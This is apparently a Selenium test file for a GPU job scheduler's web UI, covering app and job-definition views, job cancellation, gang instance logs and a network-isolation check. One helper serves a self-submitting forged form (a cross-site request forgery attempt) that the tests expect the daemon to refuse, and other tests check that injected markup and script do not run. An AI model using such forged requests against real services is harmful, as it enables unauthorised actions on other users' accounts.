    "schedules": [{"id": "s", "kind": "iso8601", "expression": "R/2030-01-01T00:00:00Z/PT1H", "timezone": None,
                   "enabled": False, "concurrency_policy": "allow", "starting_deadline_s": None, "next_run_at": None}],
    "parents": ["parent"], "next_run_at": None, "active_runs": 0, "last_status": "FAILED",
    "last_finished_at": None, "success_count": 2, "failure_count": 1, "missed_ticks": 3,
    "created_at": "2026-01-01T00:00:00.000Z", "spec": {"name": "child"},
    "runs": [{"id": "r1", "jobId": "child", "status": "FAILED", "createdAt": "2026-01-01T00:00:00.000Z",
              "completedAt": None, "tasks": [{"id": "40", "status": "TASK_FAILED"}], "trigger": "dependency",
              "reason": "exit code 2"}],
}  # fmt: skip
FAKE_GPU = {"index": 0, "uuid": "GPU-free", "model": "H100", "memory_mib": 81920, "granted_milli": 0, "held": [],
            "used_memory_mib": None, "utilization_pct": None, "foreign_memory_mib": None}  # fmt: skip


def test_every_state_of_apps_definitions_and_gpus_in_words(site: Site) -> None:
    driver = site.driver
    answers = {
        "/marathon/v2/apps": {"apps": [FAKE_APP]},
        "/marathon/v2/apps/web": {"app": FAKE_APP},
        "/v1/definitions": [FAKE_DEFINITION],
        "/v1/definitions/child": FAKE_DEFINITION,
        "/v1/gpus": [FAKE_GPU],
    }
    driver.get(site.live.url + "/ui/#gpus")
    until(site, "the grid", lambda _: heading(site).startswith("GPUs"))
    driver.execute_script(FAKE_ANSWERS, answers)
    try:
        until(site, "a free GPU", lambda _: heading(site) == "GPUs (1)")
        assert texts(site, "#view table tbody tr") == ["0\tGPU-free\tH100\tfree: no share granted"]
        key(site, "a")
        until(site, "the fake app", lambda _: heading(site) == "Marathon apps (1)")
        (row,) = [r.split("\t") for r in texts(site, "#view tbody tr")]
        assert row == ["/web", "someone", "0 of 2", "deploying", "serve --port '$PORT0'", "1 GPU, 1 CPU, 2 GiB",
                       "1 instance waits: insufficient GPU"]  # fmt: skip
        assert driver.execute_script("return document.querySelector('#view caption').innerText") == (
            "Long-running services made through Marathon's API (read-only here: change them with a Marathon client)"
        )
        driver.find_element(By.CSS_SELECTOR, '#view a[href="#app/web"]').click()
        until(site, "the fake app's page", lambda _: heading(site) == "App /web")
        fields = texts(site, "#view dl.fields")[0].split("\n")
        assert fields == [
            "User", "someone", "Instances", "0 running of 2 (0 healthy, 0 unhealthy, 1 staged)",
            "Deployment", "deploying (not yet at its target)", "Command", "serve --port '$PORT0'", "Image", "-",
            "Each instance asks for", "1 GPU, 1 CPU, 2 GiB", "Ports", "any free port", "Labels", "-",
            "Health checks", "2",
            "Why instances wait", "1 instance waits: insufficient GPU", "Version", "2026-01-01T00:00:00.000Z",
        ]  # fmt: skip
        (task,) = [r.split("\t") for r in texts(site, "#view tbody tr")]
        assert task == ["web.instance-1", "staging", "#41", "GPU 1 (A100)", "31000", "-", "healthy: yes, healthy: no"]
        key(site, "d")
        until(site, "the fake definition", lambda _: heading(site) == "Job definitions (1)")
        assert texts(site, "#view thead th") == ["Name", "From", "User", "Schedule", "Next run", "Active runs",
                                                 "Last run", "Succeeded / failed", "Command"]  # fmt: skip
        (row,) = [r.split("\t") for r in texts(site, "#view tbody tr")]
        assert row == ["child", "Chronos", "someone", "R/2030-01-01T00:00:00Z/PT1H (disabled); after parent", "-",
                       "0", "FAILED", "2 / 1", "make"]  # fmt: skip
        assert driver.execute_script("return document.querySelector('#view caption').innerText") == (
            "Named jobs made through Metronome's or Chronos' API or `corral job` (read-only here)"
        )
        driver.find_element(By.CSS_SELECTOR, '#view a[href="#definition/child"]').click()
        until(site, "the fake definition's page", lambda _: heading(site) == "Definition child")
        page = view_text(site)
        assert (
            "Schedules enabled\ns: no" in page
            and "Image\nbusybox" in page
            and "Asks for\n1 GPU, 1 CPU, 512 MiB" in page
        )
        assert "Runs\n0 active; 2 succeeded, 1 failed, 3 missed" in page and "As Chronos shows it" in page
        (run,) = [r.split("\t") for r in texts(site, "#view tbody tr")]
        assert run[:3] == ["r1", "FAILED", "dependency"] and run[4:] == ["-", "#40 TASK_FAILED", "exit code 2"]
        answers["/marathon/v2/apps"] = {"apps": []}
        answers["/v1/definitions"] = []
        driver.execute_script(FAKE_ANSWERS, answers)
        key(site, "d")
        until(site, "no definitions", lambda _: "No job definitions." in view_text(site))
        key(site, "a")
        until(site, "no apps", lambda _: "No Marathon apps." in view_text(site))
    finally:
        driver.execute_script("if (window.__realFetch) window.fetch = window.__realFetch")


class Forger(threading.Thread):
    """Another user's web server on this host (another port): its page posts a cancel to the daemon. A browser sends
    the session cookie with it (cookies ignore ports; the two are the same site), but not the check."""

    def __init__(self, target: str) -> None:
        import http.server

        page = (
            "<!DOCTYPE html><title>forger</title>"
            f'<form id="f" method="post" action="{target}"></form>'
            "<script>document.getElementById('f').submit()</script>"
        ).encode()

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(page)

            def log_message(self, *args: Any) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        super().__init__(target=self.server.serve_forever, daemon=True)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server.server_address[1]}/"


def test_a_user_cancels_their_own_job_from_the_page(site: Site) -> None:
    a, b = site.people["a"], site.people["b"]
    driver = site.driver
    as_person(site, a)
    running, shared = a.jobs[0], a.jobs[1]
    # a forged cancel from another port of this host: the cookie goes with it, the check cannot; the job runs on
    forger = Forger(f"{site.live.url}/v1/jobs/{running}/cancel")
    forger.start()
    try:
        driver.get(forger.url)
        until(site, "the daemon's refusal", lambda _: "a bearer token is required over TCP" in text(site))
    finally:
        forger.server.shutdown()
    assert job_state(site, running) == "running"
    # without the check, even from the page's own origin
    driver.get(site.live.url + "/ui/#jobs")
    until(site, "the jobs", lambda _: heading(site).startswith("Jobs"))
    refused = driver.execute_async_script(
        "const done = arguments[arguments.length - 1];"
        "fetch(`/v1/jobs/${arguments[0]}/cancel`, {method: 'POST'}).then(r => done(r.status))", running
    )  # fmt: skip
    assert refused == 401 and job_state(site, running) == "running"
    if site.two_users:  # with A's check, B's job: no job A may see
        other = driver.execute_async_script(
            "const done = arguments[arguments.length - 1];"
            "fetch(`/v1/jobs/${arguments[0]}/cancel`, {method: 'POST', headers: {'X-Corral-Session':"
            " localStorage.getItem('corral-session-check')}}).then(r => r.json()).then(done)", b.jobs[0]
        )  # fmt: skip
        assert other["detail"]["message"] == f"no job {b.jobs[0]}" and job_state(site, b.jobs[0]) == "running"
    # a button on each of the viewer's own jobs that have not ended, named for the job
    until(site, "the cancel buttons", lambda d: d.find_elements(By.CSS_SELECTOR, "#view button.cancel"))
    labels = [e.get_attribute("aria-label") for e in driver.find_elements(By.CSS_SELECTOR, "#view button.cancel")]
    assert f"Cancel job {running}" in labels and f"Cancel job {shared}" in labels
    if site.two_users:
        assert f"Cancel job {b.jobs[0]}" not in labels
    # asked first: dismissing leaves the job alone
    driver.find_element(By.CSS_SELECTOR, f'#view button[aria-label="Cancel job {running}"]').click()
    alert = until(site, "the question", lambda d: d.switch_to.alert)
    assert alert.text == f"Cancel job {running}? Its processes are stopped."
    alert.dismiss()
    driver.find_element(By.CSS_SELECTOR, f'#view button[aria-label="Cancel job {shared}"]').click()
    until(site, "the question", lambda d: d.switch_to.alert).accept()
    until(site, "the notice", lambda d: d.find_element(By.ID, "notice").text == f"Job {shared}: cancel requested.")
    shot(site, "cancelled")
    until(site, "the job cancelled", lambda _: job_state(site, shared) == "cancelled")
    until(
        site,
        "its button gone",
        lambda d: not d.find_elements(By.CSS_SELECTOR, f'#view button[aria-label="Cancel job {shared}"]'),
    )
    assert job_state(site, running) == "running"
    # the job's own page has the button too
    driver.get(f"{site.live.url}/ui/#job/{running}")
    until(
        site,
        "the job page's button",
        lambda d: d.find_element(By.CSS_SELECTOR, "#view .actions button.cancel").text == "Cancel",
    )
    # a failed cancel says why: the daemon's own words
    driver.execute_script(
        "window.__realFetch = window.__realFetch || window.fetch; window.fetch = (p, i) => i && i.method === 'POST'"
        " ? Promise.resolve(new Response(JSON.stringify({detail: {field: 'job', message: 'no job 99'}}),"
        " {status: 404}))"
        " : window.__realFetch(p, i)"
    )  # fmt: skip
    try:
        driver.find_element(By.CSS_SELECTOR, "#view .actions button.cancel").click()
        until(site, "the question", lambda d: d.switch_to.alert).accept()
        until(
            site,
            "the failure",
            lambda d: d.find_element(By.ID, "notice").text == f"Could not cancel job {running}: no job 99",
        )
    finally:
        driver.execute_script("if (window.__realFetch) window.fetch = window.__realFetch")
    assert job_state(site, running) == "running"
    # a notice belongs to the view it was given on
    driver.get(f"{site.live.url}/ui/#jobs")
    until(site, "the notice gone with its view", lambda d: not d.find_element(By.ID, "notice").is_displayed())


#: What each instance of the gang prints: its own number (and markup, which must stay text).
GANG_SAYS = "from instance {} <b>bold</b>"


def log_text(site: Site) -> str:
    return "".join(texts(site, "pre.log"))


def field_value(page: str, name: str) -> str:
    """The value of a job page's field `name` in the view's text (a name line, then its value's line)."""
    lines = page.split("\n")
    return lines[lines.index(name) + 1]


def test_a_gangs_instances_and_each_ones_log(site: Site) -> None:
    a, b = site.people["a"], site.people["b"]
    driver = site.driver
    # room for a gang of two half GPUs (one GPU each: instances never share one): A's whole GPU and B's queued job
    # that wants both go
    for job in (a.jobs[0], b.jobs[1]):
        site.live.local.run("cancel", job, ok=False)
    command = ["sh", "-c", 'while :; do echo "from instance $CORRAL_INSTANCE <b>bold</b>"; sleep 0.3; done']
    gang = submit(site.live, a.token, command=command, instances=2, gang=True, gpu_fraction=0.5, gpu_memory="20GiB",
                  time_limit="10m", name="a gang")  # fmt: skip
    a.jobs.append(gang)
    as_person(site, a)
    driver.get(f"{site.live.url}/ui/#job/{gang}")
    until(site, "the gang running", lambda _: job_state(site, gang) == "running", timeout=60)
    with site.live.http() as client:
        grants = client.get(f"/v1/jobs/{gang}").json()["gpus"]
    assert len(grants) == 2 and grants[0]["index"] != grants[1]["index"]
    each = [f"GPU {g['index']}: 500m, 20 GiB" for g in grants]
    until(site, "its instances", lambda _: "Instances (2)" in texts(site, "#view h3"))

    def rows() -> list[list[str]]:
        return [r.split("\t") for r in texts(site, "#view table tbody tr")]

    until(site, "instance 0's grant", lambda _: rows() and rows()[0][1] == each[0])
    assert rows() == [["instance 0", each[0], "shown below"], ["instance 1", each[1], "-"]]
    assert texts(site, "#view thead th") == ["Instance", "GPUs", "Log"]
    page = view_text(site)
    assert "Asked for\n2 instances, each 1 GPU of 500m, 20 GiB, 1 CPU, 1 GiB" in page
    assert field_value(page, "Log file of instance 0").endswith(f"/{gang}.log")
    # instance 0's log (the job's own, as for any job): its lines only
    said = [GANG_SAYS.format(k) for k in (0, 1)]
    until(site, "instance 0's lines", lambda _: log_text(site).count(said[0]) >= 2)
    assert said[1] not in log_text(site)
    assert "Log of instance 0 (live: the last lines, following)" in texts(site, "#view h3")
    # instance 1, chosen from the table: its log from its start, the link in the address, the keyboard on the link
    driver.find_element(By.CSS_SELECTOR, f'#view a[href="#job/{gang}/instance/1"]').click()
    until(site, "instance 1's lines", lambda _: log_text(site).count(said[1]) >= 2)
    assert said[0] not in log_text(site)
    assert driver.execute_script("return location.hash") == f"#job/{gang}/instance/1"
    assert rows() == [["instance 0", each[0], "-"], ["instance 1", each[1], "shown below"]]
    assert "Log of instance 1 (live: the last lines, following)" in texts(site, "#view h3")
    assert field_value(view_text(site), "Log file of instance 1").endswith(f"/{gang}.1.log")  # where instance 1 writes
    assert driver.switch_to.active_element.get_attribute("aria-label") == f"instance 1 of job {gang} (its log is shown)"
    seen = log_text(site).count(said[1])
    until(site, "more of instance 1's lines, live", lambda _: log_text(site).count(said[1]) > seen)
    assert said[0] not in log_text(site)
    assert driver.find_elements(By.CSS_SELECTOR, "pre.log b") == []  # the output is text
    driver.execute_script("document.querySelector('#view table').scrollIntoView()")  # the instances and the log
    shot(site, "gang")
    # back: instance 0 again (each view is a link)
    driver.back()
    until(site, "instance 0 again", lambda _: said[0] in log_text(site) and said[1] not in log_text(site))
    assert rows()[0][2] == "shown below"
    # a link to an instance the job does not have says so
    driver.get(f"{site.live.url}/ui/#job/{gang}/instance/5")
    until(
        site, "the missing instance", lambda _: f"Job {gang} has instances 0 to 1, not instance 5." in view_text(site)
    )
    assert driver.find_elements(By.CSS_SELECTOR, "pre.log") == []
    # a job of one process: its page as before, no instances
    single = a.jobs[0]
    driver.get(f"{site.live.url}/ui/#job/{single}")
    until(
        site,
        "a one-process job's page",
        lambda _: heading(site).startswith(f"Job {single}") and "Log file\n" in view_text(site),
    )
    assert "Instances (" not in view_text(site) and "instance" not in " ".join(texts(site, "#view h3"))
    driver.get(f"{site.live.url}/ui/#job/{single}/instance/1")
    until(site, "no instance 1", lambda _: f"Job {single} has instance 0 only, not instance 1." in view_text(site))


def test_no_request_left_localhost_and_no_hostile_text_ran(site: Site) -> None:
    site.network.read(site.driver)
    assert len(site.network.requests) > 20
    # chrome:// pages are the browser's own (its first tab); everything that goes over a network must stay here
    network = [
        u for u in site.network.requests if urlsplit(u).scheme not in ("chrome", "chrome-untrusted", "data", "about")
    ]
    elsewhere = [u for u in network if urlsplit(u).hostname != "127.0.0.1"]
    assert elsewhere == []
    assert any(u.startswith(site.live.url + "/ui/static/app.js") for u in network)
    for pwned in ("window.__pwned", "document.title.includes('pwned')"):
        assert not site.driver.execute_script(f"return {pwned}")
